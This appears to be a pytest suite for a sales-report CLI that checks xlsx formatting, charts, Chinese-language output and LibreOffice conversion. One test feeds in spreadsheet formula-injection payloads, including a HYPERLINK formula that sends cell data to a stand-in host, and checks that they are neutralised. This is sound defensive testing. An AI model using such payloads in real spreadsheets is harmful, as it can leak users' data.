"""xlsx outputs read back with openpyxl, and converted by LibreOffice headless."""

from __future__ import annotations

import subprocess

import pytest
from openpyxl import load_workbook

from helpers import EXAMPLES, MAVEN, cli, write_csv
from render.conftest import LIBREOFFICE

PIPELINE = MAVEN / "sales_pipeline.csv"


def write_xlsx(tmp_path, *args):
    target = tmp_path / "report.xlsx"
    result = cli(*args, "-o", target)
    assert result.exit_code == 0, result.stderr
    return target


def test_performance_workbook_types_formats_and_chart(tmp_path):
    workbook = load_workbook(write_xlsx(tmp_path, "performance", "--from", PIPELINE))
    assert workbook.sheetnames == ["Summary", "By owner"]
    summary = workbook["Summary"]
    kpis = {row[1]: (row[2], fmt) for row, fmt in
            ((tuple(c.value for c in r), r[2].number_format) for r in summary.iter_rows(min_row=1)) if row[0] == "Sales performance"}
    assert kpis["Won amount"] == (10005534, "#,##0.00")
    assert kpis["Win rate"][0] == pytest.approx(0.631500521531813) and kpis["Win rate"][1] == "0.0%"
    sheet = workbook["By owner"]
    header = [c.value for c in sheet[1]]
    assert header[:3] == ["Owner", "Won count", "Won amount"]
    first = [c for c in sheet[2]]
    assert first[0].value == "Darcel Schlecht" and first[2].value == 1153214
    assert isinstance(first[2].value, (int, float)) and first[2].number_format == "#,##0.00"
    assert first[3].number_format == "0.0%" and 0 < first[3].value < 1
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:{sheet.cell(row=1, column=len(header)).column_letter}{sheet.max_row}"
    assert sheet.column_dimensions["A"].width >= len("Darcel Schlecht")
    assert len(sheet._charts) == 1
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_dates_are_dates(tmp_path):
    path = write_csv(tmp_path / "d.csv", ["Deal Name", "Owner", "Stage", "Amount", "Close Date"],
                     [["A", "Ann", "Proposal", "10", "2024-03-05"]])
    workbook = load_workbook(write_xlsx(tmp_path, "pipeline", "--from", path, "--period", "month"))
    by_period = workbook["By close period"]
    assert by_period["A2"].value == "2024-03" and by_period["C2"].value == 10
    # the summary's generated time is text; KPI cells are numbers
    assert isinstance(workbook["Summary"]["B2"].value, str)


def test_formula_payloads_are_neutralised(tmp_path):
    payload = '=HYPERLINK("http://example.invalid/?x="&A1,"click")'
    path = write_csv(tmp_path / "evil.csv", ["Deal Name", "Owner", "Stage", "Amount"],
                     [["x", payload, "Won", "10"], ["y", "@SUM(1+1)", "Won", "5"], ["z", "-2+3", "Lost", "1"]])
    workbook = load_workbook(write_xlsx(tmp_path, "performance", "--from", path))
    owners = [row[0].value for row in workbook["By owner"].iter_rows(min_row=2)]
    assert set(owners) == {"'" + payload, "'@SUM(1+1)", "'-2+3"}
    for sheet in workbook.worksheets:
        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    csv_text = (tmp_path / "o.csv")
    assert cli("performance", "--from", path, "-o", csv_text).exit_code == 0
    body = csv_text.read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK(" in body and "'@SUM(1+1)" in body and "\n=" not in body


def test_chinese_workbook(tmp_path):
    workbook = load_workbook(write_xlsx(tmp_path, "funnel", "--from", EXAMPLES / "fxiaoke_商机.csv", "--lang", "zh"))
    assert workbook.sheetnames == ["摘要", "阶段"]
    stages = workbook["阶段"]
    assert [c.value for c in stages[1]][:3] == ["销售阶段", "状态", "商机数"]
    assert stages["D2"].number_format == '"¥"#,##0.00'


def test_dashboard_workbook(tmp_path):
    target = tmp_path / "dash.xlsx"
    assert cli("dashboard", "--from", MAVEN, "-o", target).exit_code == 0
    workbook = load_workbook(target)
    assert workbook.sheetnames[0] == "Summary"
    assert {"funnel Stages", "performance By owner", "cycle By owner"} <= set(workbook.sheetnames)
    charted = [name for name in workbook.sheetnames if workbook[name]._charts]
    assert charted[:4] == ["pipeline By stage", "funnel Stages", "performance By owner", "cycle By owner"]
    assert {"trends By period", "forecast By expected close"} <= set(charted)


@pytest.mark.skipif(LIBREOFFICE is None, reason="LibreOffice is not installed (apt-get install libreoffice-calc-nogui)")
def test_libreoffice_converts_the_workbook(tmp_path):
    source = tmp_path / "dash.xlsx"
    assert cli("dashboard", "--from", MAVEN, "-o", source).exit_code == 0
    profile = tmp_path / "lo-profile"
    result = subprocess.run([LIBREOFFICE, f"-env:UserInstallation={profile.as_uri()}", "--headless", "--convert-to", "pdf",
                             "--outdir", str(tmp_path), str(source)], capture_output=True, text=True, timeout=180)
    assert result.returncode == 0, result.stderr
    pdf = tmp_path / "dash.pdf"
    assert pdf.read_bytes().startswith(b"%PDF") and pdf.stat().st_size > 5_000
